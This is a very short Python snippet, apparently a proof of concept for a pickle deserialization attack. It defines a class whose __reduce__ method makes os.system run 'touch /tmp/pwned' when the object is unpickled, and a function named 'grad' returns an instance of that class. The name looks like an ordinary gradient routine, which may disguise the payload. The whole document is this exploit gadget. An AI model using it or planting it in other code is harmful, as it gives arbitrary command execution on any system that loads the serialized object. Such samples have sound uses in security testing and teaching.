import os
class P:
    def __reduce__(s): return (os.system,('touch /tmp/pwned',))
def grad(x): return P()
